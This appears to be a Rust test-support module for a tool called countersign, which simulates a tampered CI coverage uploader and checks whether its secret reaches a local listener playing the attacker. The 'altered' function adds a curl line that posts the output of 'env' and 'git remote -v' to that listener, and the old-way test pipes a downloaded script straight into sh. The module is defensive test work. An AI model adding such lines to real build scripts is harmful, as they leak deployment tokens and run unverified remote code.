//! CI jobs, which run the uploader the old way and the new way, and where the altered line sends
//! what it finds.

use super::world::World;
use crate::{Said, run};
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::Command;
use std::sync::{Arc, Mutex};

/// An HTTP client that is nobody's in particular.
pub fn agent() -> ureq::Agent {
    let config = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .proxy(None)
        .build();
    config.into()
}

/// What the attacker receives.
pub struct Dropbox {
    /// `http://ADDR/`.
    pub url: String,
    received: Arc<Mutex<Vec<String>>>,
}

impl Dropbox {
    pub fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/upload", listener.local_addr().unwrap());
        let received = Arc::new(Mutex::new(Vec::new()));
        let into = received.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let mut reader = BufReader::new(&stream);
                let (mut line, mut length) = (String::new(), 0_usize);
                while reader.read_line(&mut line).unwrap_or(0) > 2 {
                    if let Some(n) = line.to_ascii_lowercase().strip_prefix("content-length: ") {
                        length = n.trim().parse().unwrap_or(0);
                    }
                    line.clear();
                }
                let mut body = vec![0; length];
                if reader.read_exact(&mut body).is_ok() {
                    let text = String::from_utf8_lossy(&body).into_owned();
                    into.lock().unwrap().push(text);
                }
                let _ = (&stream).write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
            }
        });
        Self { url, received }
    }

    /// Whether a secret was received.
    pub fn has(&self, secret: &str) -> bool {
        let received = self.received.lock().unwrap();
        received.iter().any(|r| r.contains(secret))
    }

    /// How many messages were.
    pub fn count(&self) -> usize {
        self.received.lock().unwrap().len()
    }
}

/// The uploader, as the project wrote it.
pub fn uploader(version: &str) -> String {
    format!(
        "#!/bin/sh\n# The uploader, {version}\nset -e\necho \"uploading coverage of $CI_JOB\"\n"
    )
}

/// The same with one line more.
pub fn altered(version: &str, dropbox: &Dropbox) -> String {
    let line = format!(
        "curl -sm 5 --data-binary \"$(git remote -v 2>/dev/null; env)\" {} >/dev/null || true\n",
        dropbox.url
    );
    uploader(version) + &line
}

/// A job with its own secret, in a directory of its own.
pub struct Job {
    pub name: String,
    pub secret: String,
    directory: PathBuf,
}

impl Job {
    pub fn new(world: &World, name: &str) -> Self {
        let directory = world.path(&format!("jobs/{name}"));
        std::fs::create_dir_all(&directory).unwrap();
        let mut random = [0_u8; 16];
        let key = keys::SecretKey::generate().unwrap().to_pkcs8_der().unwrap();
        random.copy_from_slice(&key[40..56]);
        let job = Self {
            name: name.to_owned(),
            secret: hex::encode(random),
            directory,
        };
        for args in [
            &["init", "--quiet"][..],
            &[
                "remote",
                "add",
                "origin",
                "https://git.example/customer/app",
            ],
        ] {
            let mut git = Command::new("git");
            let _ = git.args(args).current_dir(&job.directory).output();
        }
        job
    }

    fn environment(&self, command: &mut Command) {
        command.env("CI", "true").env("CI_JOB", &self.name);
        command.env("DEPLOY_TOKEN", &self.secret);
        command.current_dir(&self.directory);
    }

    /// `curl | sh`: what everybody did. The file is kept, as many jobs do.
    ///
    /// # Panics
    /// Where it says anything else than it always does: somebody would have noticed.
    pub fn old_way(&self, url: &str) -> i32 {
        let mut command = Command::new("sh");
        let line = "curl -fsS \"$1\" | tee \"${1##*/}\" | sh";
        command.args(["-c", line, "sh", url]);
        self.environment(&mut command);
        let said = run(command).unwrap();
        let out = String::from_utf8_lossy(&said.out).into_owned();
        let always = format!("uploading coverage of {}\n", self.name);
        assert_eq!((out, said.err), (always, String::new()), "it was noticed");
        said.code
    }

    /// `countersign run`, with a receipt.
    pub fn new_way(&self, world: &World, policy: &str, what: &str) -> Said {
        let mut command = world.command("countersign", &format!("run {what} --with sh"));
        command.arg("--policy").arg(world.path(policy));
        command
            .arg("--state")
            .arg(self.directory.join("state.json"));
        command.arg("--receipts").arg(self.receipts());
        command.args(["--host", &self.name]);
        self.environment(&mut command);
        run(command).unwrap()
    }

    /// Where its receipts are, if it has any.
    pub fn receipts(&self) -> PathBuf {
        self.directory.join("receipts.jsonl")
    }
}
